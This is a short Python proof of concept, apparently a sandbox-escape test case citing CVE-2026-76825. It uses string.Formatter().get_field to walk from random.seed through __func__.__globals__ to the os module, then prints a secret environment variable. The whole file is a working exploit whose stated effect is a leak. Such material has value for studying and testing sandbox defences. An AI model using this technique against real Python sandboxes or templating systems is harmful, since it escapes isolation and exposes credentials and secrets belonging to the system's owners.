"""
goal: walk attributes with string.Formatter, whose get_field gives live objects (CVE-2026-76825)
effect: leak
"""

import random
import string

system, _ = string.Formatter().get_field("0.__func__.__globals__[_os]", (random.seed,), {})
print(system.environ[SECRET_ENV])
